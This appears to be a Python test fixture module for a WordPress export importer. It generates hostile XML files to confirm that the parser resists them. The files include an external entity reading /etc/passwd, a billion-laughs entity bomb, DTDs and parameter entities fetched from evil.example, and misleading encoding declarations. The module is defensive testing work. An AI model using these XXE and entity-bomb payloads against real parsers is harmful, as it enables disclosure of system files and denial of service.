"""Entities, encodings, and files that are no export at all."""

from tests.exchange.exports import JPEG, item, wxr
from tests.exchange.hostile.kinds import GOOD, MEGABYTE, hostile, long, text


def with_prologue(prologue, *items):
    return wxr(*items).replace("<!-- generator", f"{prologue}<!-- generator", 1)


# Entities

ENTITIES = "the beginning of the file: entities are declared there; none was expanded or fetched"


@hostile(ENTITIES, posts=("Good", "&x; two"))
def external_entity(path):
    prologue = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    text(path, with_prologue(prologue, GOOD, item(2, "TWO").replace("TWO", "&x; two")))


@hostile(ENTITIES, posts=("Good", "&lol9;"))
def entity_bomb(path):
    bomb = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    )
    text(
        path,
        with_prologue(f"<!DOCTYPE rss [{bomb}]>", GOOD, item(2, "TWO").replace("TWO", "&lol9;")),
    )


@hostile(ENTITIES, posts=("Good", ("&a;" * 34)[:100]))
def entity_of_great_length(path):
    prologue = f'<!DOCTYPE rss [<!ENTITY a "{"a" * 100_000}">]>'
    text(path, with_prologue(prologue, GOOD, item(2, "TWO").replace("TWO", "&a;" * 50)))


@hostile(ENTITIES)
def entity_of_parameters_from_the_network(path):
    prologue = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>'
    text(path, with_prologue(prologue, GOOD))


@hostile()
def document_type_from_the_network(path):
    text(path, with_prologue('<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">', GOOD))


@hostile("export: the file is XML, but neither RSS nor Atom.", error=True, posts=())
def document_type_without_end(path):
    text(
        path,
        *long(
            '<?xml version="1.0"?><!DOCTYPE x [<!-- <rss> -->'[:36],
            "<!ENTITY a 'b'>\n",
            3 * MEGABYTE,
            "",
        ),
    )


# Encodings


@hostile("the encoding: it calls itself UTF-16, which it is not")
def wrong_declaration(path):
    text(path, wxr(GOOD).replace("UTF-8", "UTF-16"))


@hostile("the encoding: it calls itself klingon, which it is not")
def unknown_encoding(path):
    text(path, wxr(GOOD).replace("UTF-8", "klingon"))


@hostile("the encoding: it calls itself utf-7, which it is not")
def treacherous_encoding(path):
    text(path, wxr(GOOD).replace("UTF-8", "utf-7"))


@hostile("bytes there are no text; they were read as Windows' own letters", posts=("Good", "It’s"))
def invalid_bytes(path):
    path.write_bytes(wxr(GOOD, item(2, "IT")).encode().replace(b">IT<", b">It\x92s<"))


@hostile(posts=("Good", "봄날"))
def two_bytes_for_each_letter(path):
    path.write_bytes(wxr(GOOD, item(2, "봄날")).replace("UTF-8", "UTF-16").encode("utf-16"))


@hostile("the text: 4 characters are not allowed in it; they were left out", posts=("Good", "Bad"))
def control_characters(path):
    text(path, wxr(GOOD, item(2, "B\0a\x0bd", "\x1f\uffff")))


@hostile("the beginning of the file: text stands before the XML; it was passed over")
def warnings_before_the_beginning(path):
    text(path, "\ufeff\n<br />\n<b>Warning</b>: Cannot modify header\n", wxr(GOOD))


# No exports


@hostile("export: the file is empty. Expected is an export of WordPress", error=True, posts=())
def empty_file(path):
    text(path)


@hostile("no export is in it", "Expected is", error=True, posts=())
def picture(path):
    path.write_bytes(JPEG)


@hostile("export: the file is a web page.", error=True, posts=())
def web_page(path):
    text(path, "<!DOCTYPE html><html><body><rss></rss></body></html>")


@hostile("export: the file is XML, but neither RSS nor Atom.", error=True, posts=())
def other_xml(path):
    text(path, "<?xml version='1.0'?><urlset><url/></urlset>")


@hostile("export: the file is of a kind that is not known.", error=True, posts=())
def noise(path):
    path.write_bytes(b"\7" + bytes(range(256)) * 4000)


@hostile("export: cannot be read (No such file or directory).", error=True, posts=())
def file_that_is_missing(path):
    return


@hostile("export: there is no post in it.", error=True, posts=())
def feed_without_a_post(path):
    text(path, wxr())
